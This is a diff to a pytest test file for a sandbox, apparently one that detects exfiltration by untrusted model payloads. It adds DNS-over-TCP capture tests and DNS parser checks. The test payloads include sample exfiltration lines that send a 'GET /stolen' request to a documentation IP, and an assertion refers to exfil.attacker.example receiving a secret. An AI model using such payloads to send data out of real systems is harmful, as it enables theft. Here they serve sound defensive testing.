@@ -11,11 +11,14 @@ from pathlib import Path
 
 import pytest
 import redis
-
-from mlgate.sandbox.service import SandboxRun
 from sandbox_support import rule_ids, sandboxed
 
+from mlgate.sandbox.inside.network import dns_response, parse_query
+from mlgate.sandbox.service import SandboxRun
+
 _ESCAPE_KEY = "mlgate-sandbox-escape"
+# A DNS query for tunnel.example, type A, as on the wire (RFC 1035), id 0x1234.
+_QUERY = b"\x124\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06tunnel\x07example\x00\x00\x01\x00\x01"
 
 
 class _Exec:
@@ -55,15 +58,21 @@ def test_exfiltration_names_the_resolved_host_and_the_bytes(tmp_path: Path) -> N
     assert "connect(exfil.attacker.example (198.18.0.1), 443, b'SECRET-123'" in evidence
 
 
-def test_literal_address_http_request_is_recorded(tmp_path: Path) -> None:
+def test_literal_address_http_request_and_dns_over_tcp_are_recorded(tmp_path: Path) -> None:
     run = _run_payload(
         tmp_path,
         "import socket\n"
         "s = socket.create_connection(('203.0.113.7', 8080), timeout=5)\n"
         "s.sendall(b'GET /stolen?k=v HTTP/1.0\\r\\nHost: 203.0.113.7\\r\\n\\r\\n')\n"
-        "assert s.recv(100).startswith(b'HTTP/1.1 200')\n",
+        "assert s.recv(100).startswith(b'HTTP/1.1 200')\n"
+        f"q = {_QUERY!r}\n"
+        "d = socket.create_connection(('127.0.0.1', 53), timeout=5)\n"
+        "d.sendall(len(q).to_bytes(2, 'big') + q)\n"
+        "r = d.recv(512)\n"
+        "assert r[2:4] == q[:2] and r[-4:] == bytes([198, 18, 0, 1]), r\n",
     )
-    assert run.report.complete  # the sink answered: the payload's assert held
+    assert run.report.complete  # the sink and the responder answered: the asserts held
+    assert ("tunnel.example", "A", "198.18.0.1") in _sink_records(run, "dns")
     connections = _sink_records(run, "connection")
     assert connections[0][:2] == ("203.0.113.7", "8080")
     assert "GET /stolen?k=v HTTP/1.0" in connections[0][2]
@@ -123,3 +132,18 @@ def test_benign_pickle_is_clean_with_or_without_network(tmp_path: Path, network:
     assert run.report.findings == ()
     assert run.report.complete
     assert run.seconds < 10
+
+
+def test_dns_parser_answers_queries_and_refuses_the_rest() -> None:
+    query = parse_query(_QUERY)
+    assert query is not None and (query.name, query.qtype) == ("tunnel.example", 1)
+    answer = dns_response(query, "198.18.0.9")
+    assert (
+        answer[:2] == b"\x124"
+        and answer[6:8] == b"\x00\x01"
+        and answer.endswith(bytes([198, 18, 0, 9]))
+    )
+    assert parse_query(_QUERY[:-3]) is None  # truncated question
+    assert parse_query(b"\x12\x34\x81\x80" + _QUERY[4:]) is None  # a response, not a query
+    assert parse_query(_QUERY[:12] + b"\xc0\x0c\x00\x01\x00\x01") is None  # pointer
+    assert parse_query(_QUERY[:12] + b"\x3f" * 300) is None  # name past 255 bytes
